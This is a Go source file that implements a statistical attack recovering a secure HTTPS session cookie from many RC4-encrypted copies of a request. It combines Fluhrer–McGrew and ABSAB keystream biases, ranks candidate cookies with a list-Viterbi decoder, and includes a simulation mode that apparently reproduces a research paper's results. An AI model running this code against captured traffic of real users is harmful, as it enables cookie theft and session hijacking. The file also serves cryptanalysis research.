// Package cookieattack implements the §6 attack: decrypting a secure HTTPS
// cookie from many RC4-encrypted copies of a manipulated request. The
// attacker knows every plaintext byte of the request except the cookie
// value (§6.1/httpmodel), collects ciphertext digraph statistics at the
// cookie positions (for the Fluhrer–McGrew likelihoods) and ciphertext
// differentials against known-plaintext anchor pairs on both sides (for
// Mantin's ABSAB likelihoods, §4.2), combines them per eq. 25, and
// generates a cookie candidate list with Algorithm 2 restricted to the
// RFC 6265 cookie alphabet (§6.2). The candidate list is then brute-forced
// against the server.
package cookieattack

import (
	"errors"
	"math"
	"math/rand"

	"rc4break/internal/biases"
	"rc4break/internal/dataset"
	"rc4break/internal/recovery"
	"rc4break/internal/snapshot"
)

// MaxCookieLen is the longest cookie a job may target: the paper's
// 16-character secure cookie (§6.3). Job specs above it are refused, and
// the fleet wire bound is sized for one lane of its evidence.
const MaxCookieLen = 16

// Config describes the attacked request layout.
type Config struct {
	// CookieLen is the unknown cookie length (16 in the paper's setup).
	CookieLen int
	// Offset is the 0-based byte offset of the cookie within the record
	// plaintext.
	Offset int
	// Plaintext is the full record plaintext with the cookie bytes at
	// Offset..Offset+CookieLen-1 treated as unknown (their values in this
	// slice are ignored by the attack; tests may fill them arbitrarily).
	Plaintext []byte
	// CounterBase is the PRGA counter i at the chain's first byte (the
	// known byte immediately before the cookie). On a persistent
	// connection with fixed-size records this is constant across records —
	// the §6.3 alignment requirement.
	CounterBase int
	// MaxGap bounds the ABSAB gaps used on each side (the paper uses 128).
	MaxGap int
	// Charset restricts candidate cookie bytes; nil means the RFC 6265
	// set is NOT applied and all 256 values are allowed.
	Charset []byte
}

// anchor is one usable ABSAB anchor for one chain pair: a known plaintext
// pair at a fixed distance from the unknown pair.
type anchor struct {
	q   int // 0-based plaintext offset of the anchor pair's first byte
	gap int
	w   float64
	k1  byte
	k2  byte
}

// foldRun is one maximal run of anchors at consecutive v-row offsets:
// anchor j of the run sits at offset q0+j (ascending) or q0-j (down), with
// weight ws[j].
type foldRun struct {
	q0   int32
	down bool
	ws   []float64
}

// Attack accumulates ciphertext evidence.
type Attack struct {
	cfg     Config
	fp      [16]byte    // config fingerprint: guards Merge and snapshot resume
	chain   int         // number of pair-likelihood links = CookieLen + 1
	fm      [][]uint64  // [chain][65536] ciphertext digraph counts
	absab   [][]float64 // [chain][65536] accumulated ABSAB weights per candidate pair
	anchors [][]anchor  // per chain link
	// Batched-fold plan: anchors[r] split into maximal runs of consecutive
	// v-row offsets (see vbuf) so the ObserveRecords inner loop walks the
	// row sequentially instead of through an index indirection. With one
	// unknown region the anchors always form exactly two runs — the forward
	// side ascending, the backward side descending — but the split is
	// general, so any anchor layout folds correctly. Run order and
	// within-run order are anchors[r] order — the fold order ObserveRecord
	// uses, which the batched path must reproduce exactly (float addition
	// is not associative).
	foldRuns [][]foldRun
	// vbuf is ObserveRecords scratch: per-record pair-words over the anchor
	// window — vbuf row cell j holds (e[vlo+j]<<8 | e[vlo+j+1]) with
	// e[q] = body[q]^pt[q] — shared by all chain links of a batch, so the
	// fold inner loop is one uint16 load, one XOR, one table add. Rows cover
	// only [vlo, vlo+vw] (the span all links' anchors touch), not the whole
	// plaintext; anchors cluster around the cookie, so the hot window is a
	// fraction of the record and stays L2-resident alongside the active
	// table. Only the allocation persists across calls.
	vbuf    []uint16
	vlo, vw int
	Records uint64
	// Workers bounds the parallelism of SimulateStatistics, ObserveRecords
	// and Likelihoods, which fan out over the chain links; 0 means
	// GOMAXPROCS. Results are bitwise identical for any value.
	Workers int
	// Stream, when set by a capture driver, records which stream the
	// evidence came from; it rides along in snapshots so an exact-mode
	// resume against a different stream can be rejected.
	Stream snapshot.StreamInfo

	// Decode-path scratch, reused across rounds: the online runtime decodes
	// at every cadence point, so the 17 half-megabyte likelihood tables are
	// allocated once, and the lazy list-Viterbi keeps its per-node lists
	// and frontiers: at most n + |charset|² 16-byte entries per chain
	// position, under 5 MB for a 16-byte cookie at n = 2^13. Both are
	// recomputed from the evidence on every call — only the allocations
	// persist — so reuse never changes a result bit.
	lk      []*recovery.PairLikelihoods
	decoder recovery.PairDecoder
}

// New validates the configuration and prepares the evidence accumulators.
func New(cfg Config) (*Attack, error) {
	if cfg.CookieLen <= 0 {
		return nil, errors.New("cookieattack: cookie length must be positive")
	}
	if cfg.Offset < 1 || cfg.Offset+cfg.CookieLen >= len(cfg.Plaintext) {
		return nil, errors.New("cookieattack: cookie must have known plaintext on both sides")
	}
	if cfg.MaxGap < 0 {
		return nil, errors.New("cookieattack: negative max gap")
	}
	if cfg.CounterBase < 0 || cfg.CounterBase > 255 {
		return nil, errors.New("cookieattack: counter base must be 0..255")
	}
	fp, err := configFingerprint(cfg)
	if err != nil {
		return nil, err
	}
	a := &Attack{
		cfg:     cfg,
		fp:      fp,
		chain:   cfg.CookieLen + 1,
		fm:      make([][]uint64, cfg.CookieLen+1),
		absab:   make([][]float64, cfg.CookieLen+1),
		anchors: make([][]anchor, cfg.CookieLen+1),
	}
	known := func(j int) bool {
		return j >= 0 && j < len(cfg.Plaintext) && (j < cfg.Offset || j >= cfg.Offset+cfg.CookieLen)
	}
	for r := 0; r < a.chain; r++ {
		a.fm[r] = make([]uint64, 65536)
		a.absab[r] = make([]float64, 65536)
		p := cfg.Offset - 1 + r // first byte of the unknown-side pair
		// Forward anchors: known pair g bytes after the unknown pair.
		for g := 0; g <= cfg.MaxGap; g++ {
			q := p + 2 + g
			if q+1 >= len(cfg.Plaintext) {
				break
			}
			if known(q) && known(q+1) {
				a.anchors[r] = append(a.anchors[r], anchor{
					q: q, gap: g, w: recovery.ABSABWeight(g),
					k1: cfg.Plaintext[q], k2: cfg.Plaintext[q+1],
				})
			}
		}
		// Backward anchors: known pair g bytes before the unknown pair.
		for g := 0; g <= cfg.MaxGap; g++ {
			q := p - 2 - g
			if q < 0 {
				break
			}
			if known(q) && known(q+1) {
				a.anchors[r] = append(a.anchors[r], anchor{
					q: q, gap: g, w: recovery.ABSABWeight(g),
					k1: cfg.Plaintext[q], k2: cfg.Plaintext[q+1],
				})
			}
		}
	}
	// The anchor window: the span of plaintext positions any link's anchors
	// read. foldRun offsets are rebased to it so the batched fold only
	// builds (and streams) pair-words for positions that are actually used.
	a.vlo, a.vw = len(cfg.Plaintext), 0
	vhi := -1
	for r := 0; r < a.chain; r++ {
		for _, an := range a.anchors[r] {
			a.vlo = min(a.vlo, an.q)
			vhi = max(vhi, an.q)
		}
	}
	if vhi >= a.vlo {
		a.vw = vhi - a.vlo + 1
	} else {
		a.vlo = 0
	}
	a.foldRuns = make([][]foldRun, a.chain)
	for r := 0; r < a.chain; r++ {
		a.foldRuns[r] = splitFoldRuns(a.anchors[r], a.vlo)
	}
	return a, nil
}

// splitFoldRuns greedily groups anchors into maximal consecutive-offset
// runs, preserving anchor order, with offsets rebased to the anchor window
// start vlo. A run's direction is fixed by its second element; single
// anchors close as ascending runs.
func splitFoldRuns(anchors []anchor, vlo int) []foldRun {
	var runs []foldRun
	for i := 0; i < len(anchors); {
		run := foldRun{q0: int32(anchors[i].q - vlo), ws: []float64{anchors[i].w}}
		j := i + 1
		if j < len(anchors) {
			switch anchors[j].q {
			case anchors[i].q + 1:
			case anchors[i].q - 1:
				run.down = true
			default:
				j = i // no extension
			}
		}
		if j > i {
			step := 1
			if run.down {
				step = -1
			}
			for ; j < len(anchors) && anchors[j].q == anchors[j-1].q+step; j++ {
				run.ws = append(run.ws, anchors[j].w)
			}
			i = j
		} else {
			i++
		}
		runs = append(runs, run)
	}
	return runs
}

// AnchorsPerPair reports how many ABSAB anchors each chain link uses — the
// paper's "2·129 ABSAB biases" when known plaintext is ample on both sides.
func (a *Attack) AnchorsPerPair() []int {
	out := make([]int, a.chain)
	for r := range a.anchors {
		out[r] = len(a.anchors[r])
	}
	return out
}

// ObserveRecord folds one encrypted record body (RC4 ciphertext of the
// aligned request plaintext) into the statistics. Capture folds through
// ObserveRecords; this per-record form is the reference tests and
// benchmarks pin it to.
func (a *Attack) ObserveRecord(body []byte) error {
	if len(body) < len(a.cfg.Plaintext) {
		return errors.New("cookieattack: record shorter than modeled plaintext")
	}
	for r := 0; r < a.chain; r++ {
		p := a.cfg.Offset - 1 + r
		a.fm[r][int(body[p])*256+int(body[p+1])]++
		tbl := a.absab[r]
		for _, an := range a.anchors[r] {
			d1 := body[p] ^ body[an.q]
			d2 := body[p+1] ^ body[an.q+1]
			// Supported candidate pair: µ = Ĉ ⊕ known anchor plaintext.
			tbl[int(d1^an.k1)*256+int(d2^an.k2)] += an.w
		}
	}
	a.Records++
	return nil
}

// ObserveRecords folds a batch of n record bodies laid out back to back in
// flat at the given stride (only the first len(Config.Plaintext) bytes of
// each record are read; stride may exceed that for padded layouts). It is
// bitwise identical to calling ObserveRecord on each record in order, for
// any batch split and any Workers value, and roughly an order of magnitude
// faster: the scalar path cycles all 17 half-megabyte ABSAB tables per
// record, so every table add misses cache, while the batched path goes
// link-major — each table stays resident while the whole batch folds into
// it — and fans the links over the Workers pool (links write disjoint
// tables, and float adds within a link keep the exact record-then-anchor
// order of the scalar path, so reordering links never changes a bit).
//
// The index algebra matches ObserveRecord by XOR associativity: with
// e[j] = body[j]^pt[j], the scalar cell index
//
//	(d1^k1, d2^k2) = (body[p]^body[q]^pt[q], body[p+1]^body[q+1]^pt[q+1])
//
// equals (body[p]<<8 | body[p+1]) XOR (e[q]<<8 | e[q+1]). The pair-words
// (e[q]<<8 | e[q+1]) depend only on the record, not the link, so each row
// is computed once into vbuf and shared by all 17 links, turning the inner
// loop into one uint16 load, one XOR, and one table add.
func (a *Attack) ObserveRecords(flat []byte, n, stride int) error {
	plen := len(a.cfg.Plaintext)
	if stride < plen {
		return errors.New("cookieattack: record shorter than modeled plaintext")
	}
	if n <= 0 {
		if n < 0 {
			return errors.New("cookieattack: negative batch size")
		}
		return nil
	}
	if len(flat) < (n-1)*stride+plen {
		return errors.New("cookieattack: batch buffer shorter than its declared records")
	}
	vw := a.vw
	if cap(a.vbuf) < n*vw {
		a.vbuf = make([]uint16, n*vw)
	}
	v := a.vbuf[:n*vw]
	if vw > 0 {
		// An anchor at q reads pt[q] and pt[q+1], so the byte window is one
		// wider than the pair-word window.
		pt := a.cfg.Plaintext[a.vlo : a.vlo+vw+1]
		for i := 0; i < n; i++ {
			b := flat[i*stride+a.vlo : i*stride+a.vlo+vw+1]
			row := v[i*vw : (i+1)*vw]
			hi := b[0] ^ pt[0]
			for j := range row {
				lo := b[j+1] ^ pt[j+1]
				row[j] = uint16(hi)<<8 | uint16(lo)
				hi = lo
			}
		}
	}
	err := dataset.ForShards(a.Workers, a.chain, func(r int) error {
		a.foldLinkBatch(r, flat, n, stride, v, vw)
		return nil
	})
	if err != nil {
		return err
	}
	a.Records += uint64(n)
	return nil
}

// foldLinkBatch folds one chain link's evidence for a whole batch. It only
// touches link-local tables, which is what lets ObserveRecords run the links
// concurrently.
func (a *Attack) foldLinkBatch(r int, flat []byte, n, stride int, v []uint16, vw int) {
	p := a.cfg.Offset - 1 + r
	// New (and the snapshot loader) guarantee full 65536-cell tables; the
	// array-pointer views let index arithmetic on uint16-ranged values prove
	// bounds at compile time.
	fm := (*[65536]uint64)(a.fm[r])
	tbl := (*[65536]float64)(a.absab[r])
	runs := a.foldRuns[r]
	// cc is the raw ciphertext pair (body[p]<<8 | body[p+1]). When p lies
	// inside the anchor window — the common case, since anchors cluster on
	// both sides of the cookie — it comes from the already-hot vbuf row
	// (row[p-vlo] holds the XORed pair, so XORing the plaintext pair back
	// out recovers the ciphertext pair) and the hot loop never touches the
	// flat capture copy at all.
	ccIdx := p - a.vlo
	ccInWin := ccIdx >= 0 && ccIdx < vw
	ptcc := uint32(a.cfg.Plaintext[p])<<8 | uint32(a.cfg.Plaintext[p+1])
	for i := 0; i < n; i++ {
		row := v[i*vw : i*vw+vw]
		var cc uint32
		if ccInWin {
			cc = uint32(row[ccIdx]) ^ ptcc
		} else {
			b := flat[i*stride:]
			cc = uint32(b[p])<<8 | uint32(b[p+1])
		}
		fm[cc]++
		for _, run := range runs {
			q0 := int(run.q0)
			nw := len(run.ws)
			if !run.down {
				// Anchor j reads pair-word row[q0+j].
				vr := row[q0 : q0+nw]
				for j, w := range run.ws {
					tbl[uint32(vr[j])^cc] += w
				}
			} else {
				// Anchor j reads pair-word row[q0-j].
				vr := row[q0+1-nw : q0+1]
				for j, w := range run.ws {
					tbl[uint32(vr[nw-1-j])^cc] += w
				}
			}
		}
	}
}

// Likelihoods combines the FM and ABSAB evidence into one pair-likelihood
// chain (eq. 25). Chain link r covers plaintext positions
// (Offset-1+r, Offset+r). The chain links are independent, so the pass
// fans them over the Workers pool (bitwise identical for any worker
// count), and the 17 tables are reused across calls — the online runtime
// re-runs this at every decode point. The returned slice aliases the
// attack's scratch: it is valid until the next Likelihoods call.
func (a *Attack) Likelihoods() ([]*recovery.PairLikelihoods, error) {
	if a.lk == nil {
		a.lk = make([]*recovery.PairLikelihoods, a.chain)
		for r := range a.lk {
			a.lk[r] = new(recovery.PairLikelihoods)
		}
	}
	err := dataset.ForShards(a.Workers, a.chain, func(r int) error {
		i := (a.cfg.CounterBase + r) % 256
		lk := a.lk[r]
		if err := recovery.FMPairLikelihoodsInto(lk, a.fm[r], i); err != nil {
			return err
		}
		for c, w := range a.absab[r] {
			lk[c] += w
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	return a.lk, nil
}

// Candidates generates the n most likely cookies (full values, without the
// surrounding known bytes) via Algorithm 2, reusing the attack's likelihood
// tables and list-Viterbi decoder across calls.
func (a *Attack) Candidates(n int) ([]recovery.Candidate, error) {
	lks, err := a.Likelihoods()
	if err != nil {
		return nil, err
	}
	m1 := a.cfg.Plaintext[a.cfg.Offset-1]
	mL := a.cfg.Plaintext[a.cfg.Offset+a.cfg.CookieLen]
	cands, err := a.decoder.Decode(lks, m1, mL, n, a.cfg.Charset)
	if err != nil {
		return nil, err
	}
	// Strip the anchors: the caller wants cookie values.
	for i := range cands {
		cands[i].Plaintext = cands[i].Plaintext[1 : a.cfg.CookieLen+1]
	}
	return cands, nil
}

// Observed reports the records folded into the evidence pool — the
// online runtime's progress counter.
func (a *Attack) Observed() uint64 { return a.Records }

// Decode generates up to max ranked cookie candidates from the current
// evidence — the online runtime's decode step.
func (a *Attack) Decode(max int) (recovery.CandidateSource, error) {
	cands, err := a.Candidates(max)
	if err != nil {
		return nil, err
	}
	return recovery.SliceSource(cands), nil
}

// SimulateStatistics fills the evidence tables by drawing sufficient
// statistics for nRecords model-mode records directly, instead of
// constructing each record (the paper's Figures 7 and 10 are simulations in
// the same sense — at 2^39 ciphertexts per point no testbed generates them
// one by one):
//
//   - FM digraph histograms: per-cell normal approximation of the
//     multinomial over the Fluhrer–McGrew distribution at the link's PRGA
//     counter, XOR-shifted by the true plaintext pair.
//   - ABSAB evidence: per anchor, the number of keystream-digraph
//     coincidences is Binomial(nRecords, β(g)); coincidences support the
//     true pair, non-coincidences spread uniformly. Both are sampled with
//     normal approximations, aggregated per cell across anchors.
//
// truth is the true cookie value.
//
// The chain links are statistically independent, so the simulation fans out
// over them with the engine's shard/queue pattern: each link draws from its
// own RNG (seeded up front from rng, in link order) and writes only its own
// fm/absab tables. The result is bitwise identical for any Workers value —
// one worker reproduces exactly what sixteen produce.
func (a *Attack) SimulateStatistics(rng *rand.Rand, truth []byte, nRecords uint64) error {
	if len(truth) != a.cfg.CookieLen {
		return errors.New("cookieattack: truth length mismatch")
	}
	chainBytes := make([]byte, a.chain+1)
	chainBytes[0] = a.cfg.Plaintext[a.cfg.Offset-1]
	copy(chainBytes[1:], truth)
	chainBytes[a.chain] = a.cfg.Plaintext[a.cfg.Offset+a.cfg.CookieLen]

	seeds := make([]int64, a.chain)
	for r := range seeds {
		seeds[r] = rng.Int63()
	}
	err := dataset.ForShards(a.Workers, a.chain, func(r int) error {
		a.simulateLink(rand.New(rand.NewSource(seeds[r])), r, chainBytes[r], chainBytes[r+1], float64(nRecords))
		return nil
	})
	if err != nil {
		return err
	}
	a.Records += nRecords
	return nil
}

// simulateLink draws the sufficient statistics of one chain link. It only
// touches link-local state, which is what lets SimulateStatistics run the
// links concurrently.
func (a *Attack) simulateLink(rng *rand.Rand, r int, pt1, pt2 byte, n float64) {
	i := (a.cfg.CounterBase + r) % 256
	// FM histogram: cell (c1,c2) sees keystream digraph (c1⊕pt1, c2⊕pt2).
	biases.FMModelAt(i).SampleHistogram(rng, a.fm[r], pt1, pt2, n)
	// ABSAB: aggregate hit weight on the true cell, aggregate miss
	// noise across all cells.
	var hitW, missMean, missVar float64
	for _, an := range a.anchors[r] {
		beta := biases.ABSABCopyProb(an.gap)
		mean := n * beta
		hits := mean + math.Sqrt(mean*(1-beta))*rng.NormFloat64()
		if hits < 0 {
			hits = 0
		}
		hitW += hits * an.w
		misses := n - hits
		missMean += an.w * misses / 65536
		missVar += an.w * an.w * misses / 65536
	}
	tbl := a.absab[r]
	sd := math.Sqrt(missVar)
	for c := range tbl {
		v := missMean + sd*rng.NormFloat64()
		if v < 0 {
			v = 0
		}
		tbl[c] += v
	}
	tbl[int(pt1)*256+int(pt2)] += hitW
}
